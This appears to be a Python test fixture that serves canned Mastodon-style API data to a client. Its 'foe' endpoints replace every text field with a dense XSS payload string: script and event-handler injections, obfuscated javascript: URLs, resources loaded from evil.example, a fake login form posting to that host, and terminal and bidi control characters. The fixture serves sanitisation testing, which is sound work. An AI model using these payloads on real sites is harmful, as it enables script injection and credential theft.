"""What a server sends to be looked at: by friends, and by foes."""

from __future__ import annotations

import json
from typing import Any

from tests.support.canned import Answer, answer
from tests.support.wire import Request

ADA = {
    "id": "7",
    "username": "ada",
    "acct": "ada@engines.example",
    "display_name": "Ada Lovelace",
    "url": "https://engines.example/@ada",
    "note": '<p>Notes on engines. <a href="https://engines.example/tags/poetry" rel="tag">'
    "#<span>poetry</span></a></p><p>Sums on request.</p>",
    "avatar": "https://tracker.example/ada.png",
    "fields": [
        {"name": "Site", "value": '<a href="https://engines.example">engines.example</a>'},
        {"name": "Pronouns", "value": "she/her"},
    ],
    "bot": False,
    "locked": True,
    "statuses_count": 1234,
    "following_count": 56,
    "followers_count": 78901,
}
GRACE = {**ADA, "id": "8", "username": "grace", "acct": "grace", "display_name": "Grace Hopper"}
POLL = {
    "id": "9",
    "options": [
        {"title": "Tea, with milk", "votes_count": 3},
        {"title": "Mud", "votes_count": 1},
    ],
    "votes_count": 4,
    "expired": True,
}
MEDIA = {
    "id": "8",
    "type": "image",
    "url": "https://files.example/8.png",
    "preview_url": "https://files.example/8_small.png",
    "description": 'Two "hills", and the sun between them',
    "blurhash": "LEHV6nWB2yk8pyo0adR*.7kCMdnj",
    "meta": {"original": {"width": 1600, "height": 900}},
}
STATUS = {
    "id": "5",
    "created_at": "2024-05-01T12:30:00.000Z",
    "account": ADA,
    "content": "<p>Fish &amp; chips cost $5, or $6 with peas<br>at six</p>"
    '<p><span class="h-card"><a href="https://engines.example/@grace" class="u-url mention">@'
    "<span>grace</span></a></span> Come!</p>",
    "visibility": "public",
    "url": "https://engines.example/@ada/5",
    "replies_count": 2,
    "reblogs_count": 1,
    "favourites_count": 3,
}
HIDDEN = {**STATUS, "id": "6", "spoiler_text": "Food", "sensitive": True}
WITH_ALL = {**STATUS, "id": "4", "media_attachments": [MEDIA], "poll": POLL}
BOOST = {**STATUS, "id": "3", "account": GRACE, "reblog": STATUS}
QUOTING = {
    **STATUS,
    "id": "2",
    "account": GRACE,
    "content": "<p>Hear, hear.</p>",
    "quote": {"state": "accepted", "quoted_status": STATUS},
}
NOTIFICATION = {
    "id": "3",
    "type": "favourite",
    "created_at": "2024-05-01T12:31:00.000Z",
    "account": GRACE,
    "status": STATUS,
}

# Whatever of it comes to run, or to be fetched, leaves one of these words.
_DOES = "document.title='OWNED'"
HOSTILE = (
    f"<script>{_DOES}</script><SCRIPT SRC=//evil.example/x.js></SCRIPT>"
    f'<img src=x onerror="{_DOES}"><img/src="https://evil.example/pixel"onload={_DOES}>'
    f"<svg onload={_DOES}><math><mtext><style><!--</style><img title='--><img src=x "
    f'onerror={_DOES}>\'></math></svg><details open ontoggle="{_DOES}"><summary>x</summary>'
    '<style>body{display:none}@import"https://evil.example/x.css"</style>'
    '<link rel=stylesheet href="https://evil.example/x.css"><base href="https://evil.example/">'
    '<meta http-equiv=refresh content="0;url=https://evil.example/">'
    f'<iframe srcdoc="<script>parent.{_DOES}</script>"></iframe><object data=x></object>'
    f'<a href="javascript:{_DOES}">one</a><a href=" &#x6a;avascript&colon;{_DOES}">two</a>'
    f'<a href="java\tscript:{_DOES}">three</a><a href="data:text/html,<script>{_DOES}">four</a>'
    f'<a href="//evil.example">five</a><a href="https://good.example/" onclick="{_DOES}" '
    'style="position:fixed;inset:0;z-index:9" class="jp-Button" id="x" download>six</a>'
    f'<a href="https://good.example/&quot; onmouseover=&quot;{_DOES}">seven</a>'
    '<div style="position:fixed;inset:0;background:url(https://evil.example/x)">cover</div>'
    '<form action="https://evil.example/"><input name=password autofocus '
    f'onfocus="{_DOES}"><button>Log in again</button></form>'
    "</p></span></a></td></tr></table></details></div></div></div></div></div>"
    f"$\\href{{javascript:{_DOES}}}{{eight}}$ \\(\\style{{position:fixed}}{{nine}}\\) {{{{7*7}}}}"
    "\u202egnp.exe\u2066\u2067\u2068 \u200f\x00\x07\x1b]0;OWNED\x07\x1b[2J\ud800"
    f"<p title=\"<img src=x onerror={_DOES}><!-- <![CDATA[ <?php <p <a href='"
)


def hostile(value: Any) -> Any:
    """Return the same with all texts but ids replaced by hostile ones."""
    if isinstance(value, dict):
        return {key: part if key == "id" else hostile(part) for key, part in value.items()}
    if isinstance(value, list):
        return [hostile(part) for part in value]
    return HOSTILE if isinstance(value, str) else value


_EVERYTHING = {**WITH_ALL, "spoiler_text": "x", "quote": {"quoted_status": STATUS}}
_FRIENDS = {
    "/statuses/5": STATUS,
    "/statuses/4": WITH_ALL,
    "/accounts/7": ADA,
    "/notifications": [NOTIFICATION],
    "/polls/9": POLL,
    "/media/8": MEDIA,
    "/timelines/home": [HIDDEN, WITH_ALL, BOOST, QUOTING],
    "/accounts/relationships": [{"id": "7", "following": True}],
    "/accounts/verify_credentials": GRACE,
}
_FOES = {
    "/statuses/666": _EVERYTHING,
    "/accounts/666": ADA,
    "/notifications/666": NOTIFICATION,
    "/polls/666": POLL,
    "/media/666": MEDIA,
    "/timelines/public": [_EVERYTHING, STATUS],
}


def say(request: Request) -> Answer:
    """Answer a request, as a script of `Canned`."""
    path = request.path.removeprefix("/api/v1")
    said = hostile(_FOES[path]) if path in _FOES else _FRIENDS[path]
    # As JSON writes them, also what is no character.
    return answer(200, json.dumps(said), {"Content-Type": "application/json"})
